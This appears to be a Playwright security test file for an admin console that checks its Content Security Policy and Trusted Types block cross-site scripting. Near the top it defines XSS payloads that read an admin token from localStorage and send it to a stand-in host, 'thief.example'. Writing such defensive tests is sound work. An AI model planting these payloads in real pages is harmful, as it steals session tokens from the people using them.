import { pages } from '@azas/domain/access/pages.ts'
import { actionWords, shellWords } from '@azas/domain/words/shell.ts'
import type { Page } from '@playwright/test'
import { signIn } from '../login-form.ts'
import { expect, openAs, test } from '../world.ts'

test.use({ mayBreakPolicy: true })

const superUser = 'superuser@example.jp'
const thief = 'https://thief.example'

const steal = `window.ran=1;new Image().src='${thief}/i?'+encodeURIComponent(localStorage.azas_admin_token);fetch('${thief}/f?'+encodeURIComponent(localStorage.azas_admin_token))`
const payloads = {
  'a script in the page': `<script>${steal}</script>`,
  'a script from elsewhere': `<script src="${thief}/s.js"></script>`,
  'an event handler': `<img src="/no-such.png" onerror="${steal}">`,
}

/** Counts what reaches the thief, who answers with a script of the own. */
async function watchThief(page: Page): Promise<string[]> {
  const reached: string[] = []
  await page.route(`${thief}/**`, async (route) => {
    reached.push(route.request().url())
    await route.fulfill({
      contentType: 'text/javascript',
      body: steal,
      headers: { 'Access-Control-Allow-Origin': '*' },
    })
  })
  return reached
}

/** Puts markup into the page as the server sends it: as if it had been stored there. */
async function plant(page: Page, markup: string, withPolicy: boolean): Promise<void> {
  await page.route('**/system/notice', async (route) => {
    const response = await route.fetch()
    const headers = { ...response.headers() }
    if (!withPolicy) delete headers['content-security-policy']
    await route.fulfill({ response, headers, body: (await response.text()).replace('</body>', `${markup}</body>`) })
  })
}

for (const [name, markup] of Object.entries(payloads)) {
  test(`SEC-16 ${name} carries the token away without the policy, and does not with it`, async ({ page }) => {
    await openAs(page, superUser)
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
    const reached = await watchThief(page)
    await plant(page, markup, false)
    await page.goto('/system/notice')
    await expect.poll(() => reached.filter((url) => url.includes('access_token')).length).toBeGreaterThan(0)
    await page.unroute('**/system/notice')
    reached.length = 0
    const blocked = page.waitForRequest('**/system-api/csp')
    await plant(page, markup, true)
    await page.goto('/system/notice')
    await blocked
    await expect(page.getByRole('heading', { level: 1, name: pages.notice.word })).toBeVisible()
    expect(reached).toEqual([])
    expect(await page.evaluate(() => 'ran' in window)).toBe(false)
  })
}

test('SEC-16 text never becomes markup or code', async ({ page }) => {
  await page.goto('/system/login')
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  const ran = await page.evaluate(() => {
    const tries: Record<string, () => void> = {
      innerHTML: () => (document.body.innerHTML = '<img src=x onerror=alert(1)>'),
      entity: () => (document.createElement('p').innerHTML = '&lt;'),
      insertAdjacentHTML: () => document.body.insertAdjacentHTML('beforeend', '<b>x</b>'),
      scriptText: () => (document.createElement('script').textContent = 'alert(1)'),
      scriptSource: () => (document.createElement('script').src = 'data:text/javascript,alert(1)'),
      policy: () =>
        (
          window as unknown as { trustedTypes: { createPolicy: (n: string, r: object) => void } }
        ).trustedTypes.createPolicy('mine', {}),
    }
    return Object.keys(tries).filter((name) => {
      try {
        tries[name]!()
        return true
      } catch {
        return false
      }
    })
  })
  expect(ran).toEqual([])
})

test('SEC-16 the console itself never breaks the policy', async ({ page }) => {
  const reports: string[] = []
  page.on('request', (request) => {
    if (request.url().endsWith('/system-api/csp')) reports.push(request.postData() ?? '')
  })
  page.on('console', (message) => {
    if (/Content Security Policy|TrustedHTML|TrustedScript/u.test(message.text())) reports.push(message.text())
  })
  await page.goto('/system/login')
  await signIn(page, superUser)
  await expect(page.getByRole('row').nth(1)).toBeVisible()
  await page.getByRole('button', { name: shellWords.toDark }).click()
  await page
    .getByRole('button', { name: /^概要を表示：/u })
    .first()
    .click()
  await expect(page.locator('.peek')).toBeVisible()
  await page.keyboard.press('Escape')
  await expect(page.locator('.peek')).toHaveCount(0)
  await page.route('**/contract/search*', (route) => route.fulfill({ status: 400, json: {} }))
  await page.getByRole('button', { name: '会社名で並べ替え' }).click()
  await expect(page.locator('.toast')).toBeVisible()
  await page.setViewportSize({ width: 390, height: 844 })
  await page.getByRole('button', { name: shellWords.openMenu }).click()
  await page.getByRole('dialog').getByRole('link', { name: pages.notice.word }).click()
  await expect(page.getByRole('dialog')).toHaveCount(0)
  await page.getByRole('button', { name: shellWords.account }).click()
  await page.getByRole('menuitem', { name: actionWords.logout }).click()
  await expect(page).toHaveURL(/\/system\/login/u)
  expect(reports).toEqual([])
})

test('SEC-16 what is fetched ahead on the login page is a plain call, which every browser allows, for Firefox asks default-src for a link', async ({
  page,
}) => {
  const ahead = page.waitForRequest(/\/assets\/console-[^/]*\.js$/u)
  await page.goto('/system/login')
  await page.keyboard.press('Tab')
  expect((await ahead).resourceType()).toBe('fetch')
  expect((await (await ahead).response())!.status()).toBe(200)
})
